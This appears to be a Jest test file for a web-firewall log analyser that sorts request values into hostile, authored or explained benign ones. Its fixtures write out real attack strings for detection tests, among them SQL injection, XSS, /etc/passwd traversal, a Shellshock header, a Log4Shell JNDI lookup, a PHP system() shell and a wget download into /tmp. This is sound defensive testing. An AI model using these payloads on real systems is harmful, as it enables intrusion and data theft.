// What is looked at in a request, and how each value reads.
import { describe, expect, test } from '@jest/globals';
import { findAccessValues, findValues, type ValuesInput } from '../../src/analyse/values.ts';
import { GRAMMAR } from '../../src/analyse/patterns/grammar.ts';
import type { RuleHit, ValueFinding } from '../../src/model.ts';
import { rawHit } from './fixtures.ts';

const hash = (text: string): string => `#${text}`;

function look(more: Partial<ValuesInput>): ValueFinding[] {
  return findValues(
    { path: '/product.php', method: 'POST', args: [], headers: [], uri: '/product.php', hits: [], ...more },
    hash,
  );
}

const arg = (name: string, value: string, where: 'query' | 'body' = 'body') => ({
  args: [{ name, value, where }],
});
const flag = (ruleId: string, target: string, value: string): RuleHit =>
  rawHit(ruleId, { target, data: `Matched Data: x found within ${target}: ${value}` });

describe('outcomes', () => {
  test('hostile: grammar in an argument, flagged or not', () => {
    expect(look(arg('id', "1' OR '1'='1", 'query'))).toMatchObject([
      {
        field: 'ARGS:id',
        path: '/product.php',
        outcome: 'hostile',
        grammar: expect.arrayContaining(['sql-bool']),
        families: ['sqli'],
        explained: false,
        ruleIds: [],
        hash: "#1'or'1'='1",
        length: 12,
      },
    ]);
  });

  test('sentence: prose that mentions commands, in a free field of a body only', () => {
    const text =
      'Hello, the guide says: run this; wget http://example.com/install.sh and then restart the shop please';
    expect(look(arg('message', text))[0]).toMatchObject({ outcome: 'sentence', explained: true });
    expect(look(arg('message', text, 'query'))[0]).toMatchObject({ outcome: 'hostile' });
    expect(look(arg('id', text))[0]).toMatchObject({ outcome: 'hostile' });
    expect(look(arg('message', '; wget http://198.51.100.9/a -O /tmp/a'))[0]).toMatchObject({
      outcome: 'hostile',
    });
  });

  test('author: fields made for code, with the families they may hold', () => {
    const script = '<p>Hi</p><script>track(1)</script>';
    expect(look({ ...arg('content', script), path: '/wp-admin/post.php' })[0]).toMatchObject({
      outcome: 'author',
    });
    expect(
      look({
        ...arg('content', script),
        path: '/wp-admin/post.php',
        args: [{ name: 'content', value: script, where: 'query' }],
      })[0],
    ).toMatchObject({ outcome: 'hostile' });
    expect(look({ ...arg('content', script), path: '/other.php' })[0]).toMatchObject({ outcome: 'hostile' });
    const sql = 'SELECT 1 UNION SELECT user, pass FROM users; DROP TABLE x;';
    expect(look({ ...arg('sql_query', sql, 'query'), path: '/phpmyadmin/index.php' })[0]).toMatchObject({
      outcome: 'author',
    });
    expect(
      look({ ...arg('sql_query', "<?php system($_GET['c']);?>"), path: '/phpmyadmin/index.php' })[0],
    ).toMatchObject({ outcome: 'hostile' });
    expect(look({ ...arg('jform[articletext]', script), path: '/administrator/index.php' })[0]).toMatchObject(
      { outcome: 'author' },
    );
  });

  test('uploads of programs are hostile, also where authors upload', () => {
    const hits = [flag('933110', 'FILES:async-upload', 'a.php.jpg')];
    expect(look({ hits, path: '/wp-admin/async-upload.php' })[0]).toMatchObject({
      field: 'FILES:async-upload',
      outcome: 'hostile',
      grammar: ['upload-exec'],
    });
    expect(look({ hits: [flag('933110', 'FILES:async-upload', 'Foto leto (2).jpg')] })[0]).toMatchObject({
      outcome: 'none',
      explained: true,
    });
  });
});

describe('explained values of flagged fields', () => {
  test.each([
    ['password', 'pwd', "it's me #5"],
    ['search words', 'q', 'select committee; 2026'],
    ['search in another alphabet', 'q', 'зимние ботинки'],
    ['an address to go on to', 'redirect_to', 'https://shop.example.com/thanks?ok=1'],
    ['an own path', 'return', '/cart/step-2'],
    ['a mail address', 'e', 'jana.o@example.org'],
    ['JSON', 'x', '{"a":[1,2],"b":"update set"}'],
    ['letters', 'town', 'Nové Zámky'],
    ['a text', 'message', 'How do I insert into the frame 2 pictures; update set of 3?'],
  ])('%s', (_name, name, value) => {
    const found = look({ ...arg(name, value), hits: [flag('932100', `ARGS:${name}`, value)] });
    expect(found).toMatchObject([{ outcome: 'none', explained: true, ruleIds: ['932100'], grammar: [] }]);
  });

  test.each([
    ['a long or SQL password', 'pwd', 'x or select 1 where'],
    ['a call as password', 'pwd', 'abc sleep (5)'],
    ['a search with signs', 'q', 'a=b|c'],
    ['an address with steps up', 'redirect_to', 'https://x.example.org/../secret'],
    ['a hidden file', 'return', '/.hidden/x'],
    ['a settings file', 'return', '/conf/app.ini'],
    ['an address in a field of another kind', 'file', 'http://cdn.example.com/a.txt?'],
    ['broken JSON', 'x', '{"a":'],
    ['odd text', 'id', 'a%b"c'],
    ['nothing but technical words', 'name', 'exec xp'],
  ])('not explained: %s', (_name, name, value) => {
    const found = look({ ...arg(name, value), hits: [flag('932100', `ARGS:${name}`, value)] });
    expect(found).toMatchObject([{ outcome: 'none', explained: false }]);
  });

  test('tracking codes, session links and browsers', () => {
    expect(
      look({ ...arg('fbclid', 'a--b"c', 'query'), hits: [flag('942100', 'ARGS:fbclid', 'a--b"c')] }),
    ).toMatchObject([{ explained: true }]);
    expect(look({ hits: [flag('943110', 'TX:1', 'pay"x')] })).toMatchObject([{ explained: true }]);
    const agent = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0';
    expect(
      look({
        headers: [{ name: 'User-Agent', value: agent }],
        hits: [flag('932150', 'REQUEST_HEADERS:User-Agent', agent)],
      }),
    ).toMatchObject([{ explained: true }]);
  });

  test('values that no rule reacted to and that have no grammar give nothing', () => {
    expect(
      look({
        ...arg('x', 'a%b"c'),
        hits: [rawHit('920350', { target: 'REQUEST_HEADERS:Host', data: '192.0.2.80' })],
      }),
    ).toEqual([]);
  });

  test('a rule that reacted to a value in no log is unexplained', () => {
    expect(look({ hits: [rawHit('942100', { target: 'ARGS:id', data: null })] })).toMatchObject([
      { explained: false, excerpt: '(not in the logs)' },
    ]);
  });
});

describe('where values stand', () => {
  test('path: break and active, no mention; encoded too', () => {
    expect(look({ path: '/a/..%2f..%2f..%2fetc/passwd' })).toMatchObject([
      { field: 'REQUEST_FILENAME', outcome: 'hostile' },
    ]);
    expect(look({ path: '/docs/wp-config.php' })).toEqual([]);
  });

  test('cookies and headers: active, and break of script and file families', () => {
    const headers = [
      { name: 'Cookie', value: "lang=sk; x=1' OR '1'='1; y=../../../../etc/passwd" },
      { name: 'User-Agent', value: '() { :;}; /bin/bash -c id' },
      { name: 'X-Api-Version', value: '${jndi:ldap://198.51.100.1/a}' },
      { name: 'Accept', value: '../../../../etc/passwd' },
    ];
    expect(
      look({ headers })
        .map((one) => one.field)
        .sort(),
    ).toEqual(['REQUEST_COOKIES:y', 'REQUEST_HEADERS:User-Agent', 'REQUEST_HEADERS:X-Api-Version']);
  });

  test('a referer of the site itself is left out unless a rule reacted to it', () => {
    const headers = [
      { name: 'Host', value: 'shop.example.com' },
      { name: 'Referer', value: 'https://shop.example.com/?q=<script>alert(1)</script>' },
    ];
    expect(look({ headers })).toEqual([]);
    expect(
      look({ headers, hits: [flag('941100', 'REQUEST_HEADERS:Referer', '<script>alert(1)</script>')] }),
    ).toMatchObject([{ outcome: 'hostile' }]);
    expect(
      look({
        headers: [{ name: 'Referer', value: 'https://evil.example.net/?q=<script>alert(1)</script>' }],
      }),
    ).toHaveLength(1);
  });

  test('argument names are looked at when they are more than names', () => {
    expect(
      look(arg('-d allow_url_include=1 -d auto_prepend_file=php://input', ''))
        .map((one) => one.grammar)
        .flat(),
    ).toContain('app-exploit');
  });
});

describe('without an audit record', () => {
  const bare = { method: null, uri: null, args: [], headers: [] };

  test('the data of the hits is looked at, and copies of one value count once', () => {
    const hits = [
      flag('930120', 'ARGS:message', '; cat /etc/passwd'),
      flag('932160', 'ARGS:message', ';cat/etc/passwd'),
      rawHit('942100', {
        target: null,
        operator: 'detected SQLi',
        data: "Matched Data: s&1 found within ARGS:id: 1' OR '1'='1",
      }),
    ];
    const found = look({ ...bare, hits });
    expect(found.map((one) => one.field).sort()).toEqual(['ARGS:id', 'ARGS:message']);
    expect(found.every((one) => one.outcome === 'hostile')).toBe(true);
    expect(found.find((one) => one.field === 'ARGS:message')?.ruleIds).toEqual(['930120', '932160']);
  });

  test('an address in the data is split into its arguments', () => {
    const hits = [rawHit('920270', { target: null, data: "REQUEST_URI=/p.php?id=1'%20OR%20'1'='1&b=2" })];
    expect(look({ ...bare, hits })).toMatchObject([{ field: 'ARGS:id', outcome: 'hostile' }]);
  });

  test('the path of an error_log line is no record of the whole address', () => {
    const hits = [flag('930100', 'REQUEST_URI', '/p.php?f=../../../../etc/passwd')];
    expect(look({ ...bare, uri: '/p.php', hits })).toMatchObject([{ field: 'ARGS:f', outcome: 'hostile' }]);
  });

  test('with a record, the data of shown targets is not counted again', () => {
    const found = look({
      ...arg('id', "1' OR '1'='1"),
      hits: [flag('942100', 'ARGS:id', "1'or'1'='1"), flag('942190', 'ARGS:id', "1' or '1'='1")],
    });
    expect(found).toMatchObject([{ ruleIds: ['942100', '942190'] }]);
  });
});

describe('what is kept of a value', () => {
  test('at most 120 characters around the grammar, secrets masked', () => {
    const long = look(arg('x', `${'lorem '.repeat(50)}<script>alert(1)</script>${' ipsum'.repeat(50)}`))[0];
    expect(long?.excerpt.length).toBeLessThanOrEqual(120);
    expect(long?.excerpt).toContain('<script>');
    expect(look(arg('pwd', "hunter2' OR '1'='1"))[0]).toMatchObject({ excerpt: '••••', outcome: 'hostile' });
    expect(
      JSON.stringify(
        look({ headers: [{ name: 'Cookie', value: 'sid=hunter2../../../../etc/passwd' }] }).map(
          (one) => one.excerpt,
        ),
      ),
    ).not.toContain('hunter2');
    expect(look(arg('x', 'a\x1b[31m; cat /etc/passwd'))[0]?.excerpt).toContain('\\x1b');
  });

  test('at most 65,536 characters are looked at, and at most 60 findings kept', () => {
    expect(look(arg('x', `${'a'.repeat(65_536)}<script>alert(1)</script>`))).toEqual([]);
    for (const before of [4000, 4096, 9000, 40_000])
      expect(look(arg('x', `${'a '.repeat(before / 2)}<script>alert(1)</script>`))).toMatchObject([
        { outcome: 'hostile', grammar: expect.arrayContaining(['xss-script']) },
      ]);
    const args = Array.from({ length: 300 }, (_, index) => ({
      name: `a${index}`,
      value: '|id',
      where: 'query' as const,
    }));
    expect(look({ args })).toHaveLength(60);
  });
});

test('access lines: path and query, grammar only', () => {
  expect(findAccessValues('/api?host=127.0.0.1;id&x=1')).toMatchObject([
    { field: 'ARGS:host', outcome: 'hostile', hash: '' },
  ]);
  expect(findAccessValues('/product.php?id=5&q=red+shoes')).toEqual([]);
  expect(findAccessValues('')).toEqual([]);
});

test('every hostile text is hostile in id and never passes unseen in q, message or pwd of a flagged request', () => {
  for (const entry of GRAMMAR.filter((one) => one.id !== 'upload-exec')) {
    for (const text of entry.hostile) {
      const values = (name: string) =>
        look({ ...arg(name, text), hits: [flag('942100', `ARGS:${name}`, text)] });
      expect(values('id')).toMatchObject([{ outcome: 'hostile' }]);
      for (const name of ['q', 'message', 'pwd']) {
        expect(
          values(name).some((one) => one.outcome === 'hostile' || (one.outcome === 'none' && !one.explained)),
        ).toBe(true);
      }
    }
  }
});
